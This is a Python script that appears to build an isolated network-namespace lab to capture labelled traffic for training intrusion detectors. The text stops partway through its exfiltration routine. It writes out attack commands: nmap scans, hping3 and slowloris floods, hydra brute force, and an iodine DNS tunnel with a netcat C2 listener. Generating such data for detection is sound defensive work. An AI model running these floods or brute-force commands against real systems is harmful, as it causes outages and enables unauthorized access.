#!/usr/bin/env python3
"""Tidewatch lab corpus: real tools in network namespaces, labelled by their own record.

    python3 pcaps/lab/lab.py run   --seed N --out DIR [--duration S] [--prefix P]
    python3 pcaps/lab/lab.py label --pcap F --actions F.actions.jsonl --out-stem DIR/lab-seedN

`run` (root) builds a small lab: one namespace holding a bridge (`br0`, the
"switch"; tcpdump captures there) and one namespace per host, each with a veth
into the bridge and one private address of a per-seed /24. No host has a
default route and the root namespace has no interface on the lab, so nothing
leaves. Servers (nginx HTTP+HTTPS, dnsmasq, OpenSSH, vsftpd, a C2 nginx) and
clients/attackers (curl, wget, dig, ssh/scp, openssl, nmap, hping3,
slowhttptest, ab, hydra) are Debian's binaries. Every client or attacker step
is an *action* in DIR/lab-seedN.actions.jsonl: label, tool, variant, source
address, target addresses, wall-clock window.

After the capture, `label` splits the packets into flows (the engine's flow
key: 5-tuple; ICMP echo by identifier, other ICMP by type/code) and gives each
flow the label of the action whose source host, targets and time window it
matches (initiator = action source, or the reverse for answers such as ICMP
errors). Labels never come from traffic statistics. Flows matching no action,
or actions of different labels, stay unlabelled (counted in the summary).

Outputs: lab-seedN.pcap, lab-seedN.labels.csv (first_ts,last_ts,proto,src_ip,
src_port,dst_ip,dst_port,label -- the columns of pcaps/generate.py),
lab-seedN.flows.csv (the same plus tool,variant,action), lab-seedN.summary.json.
The seed varies addresses, which host plays which role, service ports, timing,
tool options, word lists and payloads.
"""
from __future__ import annotations

import argparse
import base64
import collections
import csv
import json
import os
import random
import shutil
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

LABELS = ["benign", "scan", "dos", "bruteforce", "exfil", "c2"]
WORDS = ("alpha bravo cedar delta ember falcon garnet harbor indigo juniper kestrel lumen maple nova "
         "orchid pepper quartz raven sierra tango umber velvet willow xenon yarrow zephyr amber "
         "basil cobalt dune echo fjord glade haze iris jade kelp lotus mist nectar opal pine "
         "quill reef sage thistle ursa vale wren").split()

# --------------------------------------------------------------------------- helpers


def log(msg: str) -> None:
    print(f"[lab {time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


def sh(*cmd, check=True, quiet=True, **kw):
    return subprocess.run(list(map(str, cmd)), check=check,
                          stdout=subprocess.DEVNULL if quiet else None,
                          stderr=subprocess.DEVNULL if quiet else None, **kw)


class Lab:
    def __init__(self, seed: int, out: str, duration: float, prefix: str):
        self.seed = seed
        self.rng = random.Random(seed)
        self.out = os.path.abspath(out)
        self.duration = duration
        self.prefix = prefix
        self.stem = os.path.join(self.out, f"lab-seed{seed}")
        self.run = os.path.join(self.out, f"run-seed{seed}")
        self.procs: list[subprocess.Popen] = []
        self.namespaces: list[str] = []
        self.actions: list[dict] = []
        self.alock = threading.Lock()
        self.stop = threading.Event()
        self.t_end = 0.0
        self.errors: collections.Counter = collections.Counter()

    # ---------------------------------------------------------------- processes
    def ns(self, role: str) -> str:
        return f"{self.prefix}{role}"

    def popen(self, role: str, cmd, **kw) -> subprocess.Popen:
        p = subprocess.Popen(["ip", "netns", "exec", self.ns(role)] + list(map(str, cmd)),
                             stdin=kw.pop("stdin", subprocess.DEVNULL),
                             stdout=kw.pop("stdout", subprocess.DEVNULL),
                             stderr=kw.pop("stderr", subprocess.DEVNULL),
                             cwd=kw.pop("cwd", self.run), start_new_session=True, **kw)
        self.procs.append(p)
        return p

    def run_in(self, role: str, cmd, timeout: float, stdin_data: bytes | None = None) -> int:
        """Run a client command in a host namespace, bounded in time."""
        left = self.t_end - time.time()
        timeout = max(1.0, min(timeout, left + 3))
        p = self.popen(role, cmd, stdin=subprocess.PIPE if stdin_data is not None else subprocess.DEVNULL)
        try:
            if stdin_data is not None:
                try:
                    p.stdin.write(stdin_data)
                    p.stdin.close()
                except OSError:
                    pass
            return p.wait(timeout=timeout)
        except subprocess.TimeoutExpired:
            self.kill(p)
            return -1
        finally:
            try:
                self.procs.remove(p)
            except ValueError:
                pass

    @staticmethod
    def kill(p: subprocess.Popen, sig=signal.SIGTERM) -> None:
        try:
            os.killpg(p.pid, sig)
        except (ProcessLookupError, PermissionError):
            pass
        try:
            p.wait(timeout=3)
        except subprocess.TimeoutExpired:
            try:
                os.killpg(p.pid, signal.SIGKILL)
            except (ProcessLookupError, PermissionError):
                pass
            p.wait(timeout=3)

    def action(self, label, tool, variant, role, targets, t0, t1, **extra):
        a = {"id": len(self.actions), "label": label, "tool": tool, "variant": variant,
             "host": role, "src": self.ip[role], "targets": sorted({self.ip[t] for t in targets}),
             "t0": round(t0, 6), "t1": None if t1 is None else round(t1, 6), **extra}
        with self.alock:
            a["id"] = len(self.actions)
            self.actions.append(a)
        return a

    def act(self, label, tool, variant, role, targets, cmd, timeout, stdin_data=None, **extra):
        # Recorded before it runs (t1 = None while running), so an action still running when
        # the capture stops keeps its flows: its window then ends at the capture's end.
        t0 = time.time()
        if label != "benign" and "args" not in extra:
            extra["args"] = " ".join(map(str, cmd[1:]))
        a = self.action(label, tool, variant, role, targets, t0, None, **extra)
        rc = self.run_in(role, cmd, timeout, stdin_data)
        a["t1"], a["rc"] = round(time.time(), 6), rc
        return rc

    def sleep(self, s: float) -> bool:
        """Sleep unless the run is over; False when it is."""
        return not self.stop.wait(max(0.0, min(s, self.t_end - time.time())))

    def live(self) -> bool:
        return not self.stop.is_set() and time.time() < self.t_end

    # ---------------------------------------------------------------- topology
    def plan(self):
        r = self.rng
        base = r.choice([f"10.{r.randrange(256)}.{r.randrange(256)}",
                         f"172.{r.randrange(16, 32)}.{r.randrange(256)}",
                         f"192.168.{r.randrange(256)}"])
        self.servers = ["web1", "web2", "dns", "ssh", "ftp", "c2srv"]
        self.clients = [f"ben{i}" for i in range(1, 7)]
        self.attackers = ["scanner", "dos", "brute", "exfil", "implant"]
        roles = self.servers + self.clients + self.attackers
        hosts = r.sample(range(2, 254), len(roles))
        self.ip = {role: f"{base}.{h}" for role, h in zip(roles, hosts)}
        self.roles = roles
        self.port = {
            "http": r.choice([80, 80, 8080, 8000]),
            "https": r.choice([443, 443, 8443]),
            "c2http": r.choice([80, 8080, 8888]),
            "c2https": r.choice([443, 8443, 4443]),
            "ssh": r.choice([22, 22, 2222]),
            "ftp": r.choice([21, 21, 2121]),
        }
        self.web_keepalive = r.choice([15, 30, 65])

    def build(self):
        self.namespaces = [self.ns("sw")] + [self.ns(x) for x in self.roles]
        for n in self.namespaces:
            sh("ip", "netns", "add", n)
        for role in self.roles:
            os.makedirs(f"/etc/netns/{self.ns(role)}", exist_ok=True)
            with open(f"/etc/netns/{self.ns(role)}/hosts", "w") as f:
                f.write("127.0.0.1 localhost\n" + "".join(
                    f"{self.ip[k]} {v}\n" for k, v in self.hostname.items()))
        sw = self.ns("sw")
        sh("ip", "-n", sw, "link", "add", "br0", "type", "bridge", "stp_state", "0", "forward_delay", "0")
        sh("ip", "-n", sw, "link", "set", "br0", "up")
        for i, role in enumerate(self.roles):
            n = self.ns(role)
            port = f"p{i}"
            sh("ip", "-n", sw, "link", "add", port, "type", "veth", "peer", "name", "eth0", "netns", n)
            sh("ip", "-n", sw, "link", "set", port, "master", "br0")
            sh("ip", "-n", sw, "link", "set", port, "up")
            for ns_, dev in ((sw, port), (n, "eth0")):
                sh("ip", "netns", "exec", ns_, "ethtool", "-K", dev, "tso", "off", "gso", "off",
                   "gro", "off", check=False)
            sh("ip", "netns", "exec", n, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1", check=False)
            sh("ip", "netns", "exec", n, "sysctl", "-qw", "net.ipv6.conf.default.disable_ipv6=1", check=False)
            sh("ip", "-n", n, "addr", "add", f"{self.ip[role]}/24", "dev", "eth0")
            sh("ip", "-n", n, "link", "set", "eth0", "up")
            sh("ip", "-n", n, "link", "set", "lo", "up")
            # Vary the hosts' stacks a little (ICMP error rate limit, initial TTL).
            sh("ip", "netns", "exec", n, "sysctl", "-qw",
               f"net.ipv4.icmp_ratelimit={self.rng.choice([0, 100, 1000])}", check=False)
            sh("ip", "netns", "exec", n, "sysctl", "-qw",
               f"net.ipv4.ip_default_ttl={self.rng.choice([64, 64, 128])}", check=False)
            routes = subprocess.run(["ip", "-n", n, "route", "show", "default"],
                                    capture_output=True, text=True).stdout.strip()
            if routes:
                raise RuntimeError(f"{n} has a default route ({routes}); refusing to run")
        sh("ip", "netns", "exec", sw, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1", check=False)
        self.firewall()
        # ARP entries settle before the capture starts.
        for role in self.roles:
            sh("ip", "netns", "exec", self.ns(role), "ping", "-c", "1", "-W", "1",
               self.ip[self.servers[0]], check=False)

    def firewall(self):
        """Some servers drop what is not a service (filtered ports, as behind most firewalls)."""
        services = {
            "web1": ("tcp", [self.port["http"], self.port["https"]]),
            "web2": ("tcp", [self.port["http"], self.port["https"]]),
            "ssh": ("tcp", [self.port["ssh"]]),
            "ftp": ("tcp", [self.port["ftp"], "40000-40999"]),
            "dns": ("udp", [53]),
            "c2srv": ("tcp", [self.port["c2http"], self.port["c2https"]]),
        }
        self.filtered = []
        for role, (proto, ports) in services.items():
            if self.rng.random() >= 0.5:
                continue
            plist = ", ".join(map(str, ports))
            rules = f"""table inet twlab {{
  chain input {{
    type filter hook input priority 0; policy accept;
    ct state established,related accept
    iif lo accept
    meta l4proto icmp accept
    {proto} dport {{ {plist} }} accept
    {"tcp dport 53 accept" if role == "dns" else ""}
    {"udp dport 53 accept" if role == "c2srv" else ""}
    meta l4proto {{ tcp, udp }} {self.rng.choice(["drop", "drop", "reject"])}
  }}
}}
"""
            p = subprocess.run(["ip", "netns", "exec", self.ns(role), "nft", "-f", "-"], input=rules,
                               text=True, capture_output=True)
            if p.returncode == 0:
                self.filtered.append(role)
            else:
                self.errors[f"nft {role}: {p.stderr.strip()[:200]}"] += 1

    # ---------------------------------------------------------------- content
    def content(self):
        r = self.rng
        os.makedirs(self.run, exist_ok=True)
        d = self.run
        self.docroot = os.path.join(d, "www")
        os.makedirs(os.path.join(self.docroot, "img"), exist_ok=True)
        os.makedirs(os.path.join(self.docroot, "admin"), exist_ok=True)
        os.makedirs(os.path.join(self.docroot, "files"), exist_ok=True)
        n_pages = r.randint(60, 160)
        self.pages = [f"/p/{r.choice(WORDS)}-{i}.html" for i in range(n_pages)]
        os.makedirs(os.path.join(self.docroot, "p"), exist_ok=True)
        self.images = [f"/img/{i}.{r.choice(['png', 'jpg', 'css', 'js'])}" for i in range(r.randint(20, 60))]
        for path in self.images:
            with open(self.docroot + path, "wb") as f:
                f.write(os.urandom(int(r.lognormvariate(9.5, 1.0)) + 200))
        for path in self.pages:
            links = r.sample(self.pages, 5) + r.sample(self.images, 3)
            words = " ".join(r.choice(WORDS) for _ in range(int(r.lognormvariate(6.5, 1.0)) + 20))
            body = ("<html><head><title>%s</title></head><body><p>%s</p>%s</body></html>" % (
                path, words, "".join(f'<a href="{u}">{u}</a> <img src="{u}">' for u in links)))
            with open(self.docroot + path, "w") as f:
                f.write(body)
        with open(os.path.join(self.docroot, "index.html"), "w") as f:
            f.write("<html><body>" + "".join(f'<a href="{u}">{u}</a>\n' for u in self.pages) + "</body></html>")
        with open(os.path.join(self.docroot, "admin", "index.html"), "w") as f:
            f.write("admin area")
        self.bulk = []
        for i in range(2):
            size = r.randint(1, 6) << 20
            path = f"/files/dump{i}.bin"
            with open(self.docroot + path, "wb") as f:
                f.write(os.urandom(size))
            self.bulk.append(path)
        # C2 server: small tasking responses.
        self.c2root = os.path.join(d, "c2www")
        os.makedirs(os.path.join(self.c2root, "api"), exist_ok=True)
        self.c2paths = r.sample(["/api/v1/tasks", "/api/poll", "/jquery.min.js", "/update/check",
                                 "/static/ping.gif", "/news/feed.xml", "/cdn/config.json"], 2)
        for p in self.c2paths:
            os.makedirs(os.path.dirname(self.c2root + p), exist_ok=True)
            with open(self.c2root + p, "wb") as f:
                f.write(base64.b64encode(os.urandom(r.randint(16, 600))))
        # TLS certificate, basic auth.
        key = r.choice([["rsa:2048"], ["ec", "-pkeyopt", "ec_paramgen_curve:prime256v1"]])
        sh("openssl", "req", "-x509", "-newkey", *key, "-nodes", "-days", "30",
           "-subj", f"/CN={r.choice(WORDS)}.{r.choice(['lab', 'corp', 'local'])}",
           "-keyout", f"{d}/tls.key", "-out", f"{d}/tls.crt")
        self.web_user = r.choice(["admin", "webadmin", "operator", "root"])
        self.web_pass = "".join(r.choice("abcdefghijkmnpqrstuvwxyz23456789") for _ in range(10))
        hashed = subprocess.run(["openssl", "passwd", "-apr1", self.web_pass],
                                capture_output=True, text=True, check=True).stdout.strip()
        with open(f"{d}/htpasswd", "w") as f:
            f.write(f"{self.web_user}:{hashed}\n")
        # SSH: host key and a client key for the benign sessions.
        for name in ("ssh_host_ed25519_key", "client_key"):
            sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{d}/{name}")
        shutil.copy(f"{d}/client_key.pub", f"{d}/authorized_keys")
        os.makedirs(f"{d}/sshdata", exist_ok=True)
        self.ssh_files = []
        for i in range(4):
            p = f"{d}/sshdata/f{i}.dat"
            with open(p, "wb") as f:
                f.write(os.urandom(r.randint(8, 1000) << 10))
            self.ssh_files.append(p)
        os.makedirs(f"{d}/upload", exist_ok=True)
        # FTP anonymous root (read-only, owned by root).
        os.makedirs(f"{d}/ftp/pub", exist_ok=True)
        os.makedirs(f"{d}/ftp-empty", exist_ok=True)
        self.ftp_files = []
        for i in range(5):
            with open(f"{d}/ftp/pub/doc{i}.bin", "wb") as f:
                f.write(os.urandom(r.randint(2, 800) << 10))
            self.ftp_files.append(f"/pub/doc{i}.bin")
        for p in (f"{d}/ftp", f"{d}/ftp/pub", f"{d}/ftp-empty"):
            os.chmod(p, 0o755)
        os.chmod(d, 0o755)
        # DNS zone.
        self.zone = r.choice(["corp", "lab", "internal", "office"]) + "." + r.choice(["lan", "test", "example"])
        self.names = {f"www.{self.zone}": self.ip["web1"], f"intranet.{self.zone}": self.ip["web2"],
                      f"files.{self.zone}": self.ip["ftp"], f"git.{self.zone}": self.ip["ssh"]}
        for i in range(r.randint(40, 120)):
            self.names[f"{r.choice(WORDS)}{i}.{self.zone}"] = self.ip[r.choice(self.servers[:5])]
        with open(f"{d}/hosts", "w") as f:
            for n, a in self.names.items():
                f.write(f"{a} {n}\n")
        # Clients use names in a share of their URLs (so TLS carries SNI and HTTP a Host name),
        # from a per-namespace hosts file (`ip netns exec` mounts /etc/netns/NS/hosts): no lookup.
        self.hostname = {"web1": f"www.{self.zone}", "web2": f"intranet.{self.zone}",
                         "c2srv": f"{r.choice(['cdn', 'static', 'api', 'update'])}-{r.choice(WORDS)}.{r.choice(['com', 'net', 'io'])}"}
        self.p_names = r.choice([0.5, 0.8, 1.0])
        self.exfil_domain = f"{r.choice(WORDS)}{r.randint(1, 99)}.{r.choice(['net', 'info', 'io', 'xyz'])}"
        self.tunnel_domain = f"{r.choice('tdxq')}.{r.choice(WORDS)}{r.randint(100, 999)}.{r.choice(['com', 'org', 'cc'])}"
        # Word lists for hydra (the right password is in some lists, not in others).
        self.wordlists = {}
        for svc in ("ssh", "http", "ftp"):
            n = r.randint(60, 400)
            ws = set()
            while len(ws) < n:
                w = r.choice(WORDS) + r.choice(["", str(r.randint(0, 9999)), "!", "123", "2024"])
                ws.add(w if r.random() < 0.7 else w.capitalize())
            ws = sorted(ws)
            r.shuffle(ws)
            if svc == "http" and r.random() < 0.5:
                ws.insert(r.randrange(len(ws)), self.web_pass)
            p = f"{d}/words-{svc}.txt"
            with open(p, "w") as f:
                f.write("\n".join(ws) + "\n")
            self.wordlists[svc] = p

    # ---------------------------------------------------------------- services
    def nginx_conf(self, name, root, http, https, extra=""):
        d = self.run
        tmp = f"{d}/nginx-{name}"
        os.makedirs(tmp, exist_ok=True)
        ip = self.ip[name]
        conf = f"""
worker_processes 1;
daemon off;
pid {tmp}/nginx.pid;
error_log {tmp}/error.log warn;
events {{ worker_connections 4096; }}
http {{
  access_log off;
  client_body_temp_path {tmp}/body; proxy_temp_path {tmp}/proxy; fastcgi_temp_path {tmp}/fcgi;
  uwsgi_temp_path {tmp}/uwsgi; scgi_temp_path {tmp}/scgi;
  default_type application/octet-stream;
  keepalive_timeout {self.web_keepalive};
  server_tokens {self.rng.choice(['on', 'off'])};
  server {{
    listen {ip}:{http};
    listen {ip}:{https} ssl;
    ssl_certificate {d}/tls.crt;
    ssl_certificate_key {d}/tls.key;
    root {root};
    location /admin/ {{ auth_basic "restricted"; auth_basic_user_file {d}/htpasswd; }}
    {extra}
  }}
}}
"""
        path = f"{tmp}/nginx.conf"
        with open(path, "w") as f:
            f.write(conf)
        return path

    def services(self):
        d = self.run
        for name in ("web1", "web2"):
            self.popen(name, ["nginx", "-c", self.nginx_conf(name, self.docroot, self.port["http"], self.port["https"])])
        self.popen("c2srv", ["nginx", "-c", self.nginx_conf(
            "c2srv", self.c2root, self.port["c2http"], self.port["c2https"],
            extra="error_page 405 =200 $uri; location /submit { return 200 'ok'; }")])
        dns_args = ["dnsmasq", "--no-daemon", "--no-resolv", "--no-hosts", f"--addn-hosts={d}/hosts",
                    f"--listen-address={self.ip['dns']}", "--bind-interfaces", "--except-interface=lo",
                    f"--pid-file={d}/dnsmasq.pid", f"--local=/{self.zone}/", "--cache-size=1000",
                    "--user=root", "--group=root"]
        if self.rng.random() < 0.5:
            dns_args.append(f"--address=/{self.exfil_domain}/{self.ip['c2srv']}")
        else:
            dns_args.append(f"--local=/{self.exfil_domain}/")
        # The iodine tunnel's domain is delegated (forwarded) to the attacker's server.
        dns_args.append(f"--server=/{self.tunnel_domain}/{self.ip['c2srv']}")
        self.popen("dns", dns_args)
        r = self.rng
        net = f"10.{r.randrange(100, 200)}.{r.randrange(256)}"
        self.tunnel_ip = f"{net}.1"
        self.tunnel_pw = "".join(r.choice("abcdefghijkmnpqrstuvwxyz23456789") for _ in range(12))
        self.popen("c2srv", ["iodined", "-f", "-c", "-P", self.tunnel_pw, "-l", self.ip["c2srv"],
                             "-m", str(r.choice([1130, 1200])), f"{net}.1/27", self.tunnel_domain])
        self.popen("c2srv", ["sh", "-c", f"while sleep 0.2; do nc -l -n -s {net}.1 -p 4444 > /dev/null; done"])
        with open(f"{d}/sshd_config", "w") as f:
            f.write(f"""Port {self.port['ssh']}
ListenAddress {self.ip['ssh']}
HostKey {d}/ssh_host_ed25519_key
PidFile {d}/sshd.pid
AuthorizedKeysFile {d}/authorized_keys
StrictModes no
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
PermitRootLogin prohibit-password
MaxStartups 200:30:400
MaxAuthTries {self.rng.choice([3, 6])}
LoginGraceTime 20
UseDNS no
Subsystem sftp internal-sftp
""")
        os.makedirs("/run/sshd", exist_ok=True)
        self.popen("ssh", ["/usr/sbin/sshd", "-D", "-e", "-f", f"{d}/sshd_config"])
        with open(f"{d}/vsftpd.conf", "w") as f:
            f.write(f"""listen=YES
listen_ipv6=NO
listen_address={self.ip['ftp']}
listen_port={self.port['ftp']}
background=NO
anonymous_enable=YES
no_anon_password=YES
anon_root={d}/ftp
local_enable=YES
write_enable=NO
pam_service_name=vsftpd
secure_chroot_dir={d}/ftp-empty
pasv_enable=YES
pasv_min_port=40000
pasv_max_port=40999
seccomp_sandbox=NO
isolate=NO
isolate_network=NO
xferlog_enable=NO
delay_failed_login={self.rng.choice([0, 1])}
max_login_fails=3
ftp_username=nobody
""")
        self.popen("ftp", ["vsftpd", f"{d}/vsftpd.conf"])
        time.sleep(1.5)

    # ---------------------------------------------------------------- benign
    def url(self, server=None, https=None, path=None):
        r = self.rng_t()
        server = server or r.choice(["web1", "web2"])
        https = r.random() < 0.5 if https is None else https
        path = path or r.choice(self.pages)
        port = self.port["https" if https else "http"]
        host = self.hostname[server] if r.random() < self.p_names else self.ip[server]
        return f"{'https' if https else 'http'}://{host}:{port}{path}"

    def rng_t(self) -> random.Random:
        """Per-thread RNG, derived from the seed and the thread's name."""
        t = threading.current_thread()
        if not hasattr(t, "rng"):
            t.rng = random.Random(f"{self.seed}:{t.name}")
        return t.rng

    def benign_step(self, role, kinds):
        r = self.rng_t()
        kind = r.choices(list(kinds), weights=list(kinds.values()))[0]
        web = ["web1", "web2"]
        ua = r.choice(["Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "Mozilla/5.0 Chrome/126.0",
                       "curl/7.88.1", "Wget/1.21.3"])
        if kind == "browse":
            server = r.choice(web)
            https = r.random() < 0.55
            pages = r.sample(self.pages, r.randint(1, 6)) + r.sample(self.images, r.randint(0, 4))
            if r.random() < 0.6:      # one keep-alive connection, several requests
                cmd = ["curl", "-s", "-k", "-A", ua, "--max-time", "20"]
                for p in pages:
                    cmd += ["-o", "/dev/null", self.url(server, https, p)]
                self.act("benign", "curl", "browse-keepalive", role, [server], cmd, 25)
            else:
                for p in pages:
                    self.act("benign", "curl", "browse", role, [server],
                             ["curl", "-s", "-k", "-A", ua, "--max-time", "15", "-o", "/dev/null",
                              self.url(server, https, p)], 20)
                    if not self.sleep(r.expovariate(2.0)):
                        return
        elif kind == "mirror":
            server = r.choice(web)
            https = r.random() < 0.4
            self.act("benign", "wget", "mirror", role, [server],
                     ["wget", "-q", "-r", "-l", str(r.randint(1, 2)), "-np", "--delete-after",
                      "--no-check-certificate", "-e", "robots=off", "-U", ua,
                      f"--wait={r.choice([0, 0.2, 0.5])}", "--quota=1m", "-P", f"{self.run}/wget-{role}",
                      self.url(server, https, "/index.html")], r.uniform(8, 20))
        elif kind == "dns":
            for _ in range(r.randint(1, 5)):
                name = r.choice(list(self.names)) if r.random() < 0.85 else f"{r.choice(WORDS)}.{self.zone}"
                extra = ["+tcp"] if r.random() < 0.05 else []
                self.act("benign", "dig", "lookup", role, ["dns"],
                         ["dig", f"@{self.ip['dns']}", "+tries=1", "+time=2", *extra,
                          "-t", r.choice(["A", "A", "A", "AAAA", "MX"]), name], 5)
                if not self.sleep(r.expovariate(3.0)):
                    return
        elif kind == "ssh":
            cmd = r.choice(["uptime", "ls -la /usr/bin | head -n 200", f"cat {r.choice(self.ssh_files)} | head -c {r.randint(1000, 400000)}",
                            "ps aux", f"sleep {r.uniform(0.5, 5):.1f}; df -h"])
            self.act("benign", "ssh", "exec", role, ["ssh"], [
                "ssh", "-i", f"{self.run}/client_key", "-p", self.port["ssh"], "-o", "StrictHostKeyChecking=no",
                "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5",
                f"root@{self.ip['ssh']}", cmd], 30)
        elif kind == "scp":
            up = r.random() < 0.4
            src = r.choice(self.ssh_files)
            remote = f"root@{self.ip['ssh']}:"
            args = [src, remote + f"{self.run}/upload/{role}-{r.randint(0, 1 << 30)}"] if up else [remote + src, "/dev/null"]
            self.act("benign", "scp", "upload" if up else "download", role, ["ssh"], [
                "scp", "-q", "-i", f"{self.run}/client_key", "-P", self.port["ssh"], "-o", "StrictHostKeyChecking=no",
                "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", *args], 40)
        elif kind == "bulk":
            server = r.choice(web)
            self.act("benign", "curl", "bulk", role, [server], [
                "curl", "-s", "-k", "--max-time", "30", "--limit-rate", f"{r.choice([200, 500, 1000, 3000])}k",
                "-o", "/dev/null", self.url(server, r.random() < 0.5, r.choice(self.bulk))], 35)
        elif kind == "ftp":
            path = r.choice(self.ftp_files) if r.random() < 0.8 else "/pub/"
            self.act("benign", "curl", "ftp", role, ["ftp"], [
                "curl", "-s", "--max-time", "30", "-o", "/dev/null",
                f"ftp://{self.ip['ftp']}:{self.port['ftp']}{path}"], 35)
        elif kind == "idle":
            # A long idle keep-alive connection, in the background of this client.
            hold = r.uniform(20, 70)
            if r.random() < 0.5:
                cmd = ["ssh", "-i", f"{self.run}/client_key", "-p", self.port["ssh"], "-o", "StrictHostKeyChecking=no",
                       "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
                       "-o", f"ServerAliveInterval={r.choice([5, 10, 15])}", f"root@{self.ip['ssh']}", f"sleep {hold:.0f}"]
                variant, target = "ssh-idle", "ssh"
            else:
                server = r.choice(web)
                host = self.hostname[server] if r.random() < self.p_names else self.ip[server]
                cmd = ["sh", "-c", f"sleep {hold:.0f} | openssl s_client -quiet -connect "
                       f"{host}:{self.port['https']}"]
                variant, target = "tls-idle", server
            threading.Thread(target=self.act, name=f"{role}-idle-{r.random()}", daemon=True,
                             args=("benign", cmd[0], variant, role, [target], cmd, hold + 10)).start()
        self.sleep(r.expovariate(1 / r.choice([0.5, 1.5, 4.0])))

    def benign_loop(self, role, kinds):
        while self.live():
            try:
                self.benign_step(role, kinds)
            except Exception as e:  # noqa: BLE001 -- a client must not kill the run
                self.errors[f"{role}: {type(e).__name__}: {e}"] += 1
                self.sleep(1)

    # ---------------------------------------------------------------- attacks
    def scanner(self):
        r = self.rng_t()
        targets = [s for s in self.servers]
        variants = ["sS", "sT", "sU", "sV", "slow"]
        r.shuffle(variants)
        for v in variants:
            if not self.sleep(r.uniform(2, 12)):
                return
            tgt = r.sample(targets, r.choice([1, 1, 2]))
            ips = [self.ip[t] for t in tgt]
            base = ["nmap", "-n", "-Pn", "--max-retries", str(r.choice([1, 2])), "--host-timeout", "30s"]
            if r.random() < 0.3:
                base += ["--data-length", str(r.randint(0, 40))]
            if v == "sS":
                cmd = base + ["-sS", f"-T{r.choice([3, 4, 4, 5])}", "--top-ports", str(r.randint(100, 1000))]
            elif v == "sT":
                cmd = base + ["-sT", f"-T{r.choice([3, 4])}", "-p", f"1-{r.randint(200, 2000)}"]
            elif v == "sU":
                cmd = base + ["-sU", "-T4", "--top-ports", str(r.randint(15, 60))]
            elif v == "sV":
                ports = sorted({self.port[k] for k in self.port} | {r.randint(1, 10000) for _ in range(r.randint(20, 60))})
                cmd = base + ["-sV", f"--version-intensity={r.randint(2, 7)}", "-p", ",".join(map(str, ports))]
            else:
                ports = sorted({r.randint(1, 10000) for _ in range(r.randint(30, 70))} | {self.port["ssh"]})
                cmd = base + ["-sS", "--scan-delay", f"{r.randint(200, 500)}ms", "-p", ",".join(map(str, ports))]
                cmd[cmd.index("30s")] = "40s"
            self.act("scan", "nmap", f"nmap-{v}", "scanner", tgt, cmd + ips, 45, args=" ".join(cmd[1:]))

    def dos(self):
        r = self.rng_t()
        variants = ["syn", "udp", "icmp", "slowloris", "getflood"]
        r.shuffle(variants)
        for v in variants:
            if not self.sleep(r.uniform(2, 12)):
                return
            web = r.choice(["web1", "web2"])
            https = r.random() < 0.3
            if v == "syn":
                port = self.port["https" if https else "http"] if r.random() < 0.8 else self.port["ssh"]
                tgt = web if port != self.port["ssh"] else "ssh"
                cmd = ["hping3", "-q", "-S", "-p", port, "-c", r.randint(3000, 12000), "-i", f"u{r.choice([50, 100, 200, 500])}",
                       "-w", r.choice([64, 512, 1024, 65535]), "-d", r.choice([0, 0, 40, 120]), self.ip[tgt]]
                self.act("dos", "hping3", "hping3-syn", "dos", [tgt], cmd, 30)
            elif v == "udp":
                tgt = r.choice(["dns", web, "ftp"])
                cmd = ["hping3", "-q", "--udp", "-p", r.choice([53, 123, 161, 9999, r.randint(1024, 65000)]),
                       "-c", r.randint(2000, 8000), "-i", f"u{r.choice([100, 200, 500])}", "-d", r.randint(20, 1200), self.ip[tgt]]
                self.act("dos", "hping3", "hping3-udp", "dos", [tgt], cmd, 30)
            elif v == "icmp":
                tgt = r.choice(self.servers)
                cmd = ["hping3", "-q", "--icmp", "-c", r.randint(2000, 10000), "-i", f"u{r.choice([100, 200, 500])}",
                       "-d", r.randint(0, 1400), self.ip[tgt]]
                self.act("dos", "hping3", "hping3-icmp", "dos", [tgt], cmd, 30)
            elif v == "slowloris":
                cmd = ["slowhttptest", "-H" if r.random() < 0.7 else "-B", "-c", r.randint(100, 400), "-r", r.randint(30, 150),
                       "-i", r.randint(5, 15), "-l", r.randint(25, 45), "-g", "-o", f"{self.run}/slowhttp",
                       "-u", self.url(web, False, r.choice(self.pages))]
                self.act("dos", "slowhttptest", "slowloris", "dos", [web], cmd, 55)
            else:
                cmd = ["ab", "-q", "-n", r.randint(1000, 5000), "-c", r.randint(10, 80), "-s", "5",
                       *(["-k"] if r.random() < 0.3 else []), self.url(web, https, r.choice(self.pages + ["/index.html"]))]
                self.act("dos", "ab", "http-get-flood", "dos", [web], cmd, 40)

    def brute(self):
        r = self.rng_t()
        variants = ["ssh", "http-get", "ftp"]
        r.shuffle(variants)
        for v in variants:
            if not self.sleep(r.uniform(2, 10)):
                return
            user = r.choice(["root", "admin", "test", "oracle", "ubuntu", "user", "guest", self.web_user])
            tasks = str(r.choice([2, 4, 8, 16] if v == "http-get" else [2, 4, 4, 6]))
            common = ["hydra", "-I", "-q", "-t", tasks, "-w", "5", "-l", user]
            if v == "ssh":
                cmd = common + ["-P", self.wordlists["ssh"], "-s", self.port["ssh"], self.ip["ssh"], "ssh"]
                tgt = "ssh"
            elif v == "ftp":
                cmd = common + ["-P", self.wordlists["ftp"], "-s", self.port["ftp"], self.ip["ftp"], "ftp"]
                tgt = "ftp"
            else:
                tgt = r.choice(["web1", "web2"])
                https = r.random() < 0.4
                cmd = common + ["-f", "-P", self.wordlists["http"], "-s", self.port["https" if https else "http"],
                                *(["-S"] if https else []), self.ip[tgt], "http-get", "/admin/"]
                cmd[cmd.index("-l") + 1] = self.web_user if r.random() < 0.7 else user
            self.act("bruteforce", "hydra", f"hydra-{v}", "brute", [tgt], cmd, 45)

    def exfil(self):
        r = self.rng_t()
        if not self.sleep(r.uniform(5, 30)):
            return
        sessions = r.randint(2, 3)
        iodine_at = r.randrange(sessions + 1)
        for s in range(sessions + 1):
            if s == iodine_at:
                self.iodine(r)
                if not self.sleep(r.uniform(3, 10)):
                    return
                continue
            data = os.urandom(r.randint(4, 24) << 10)
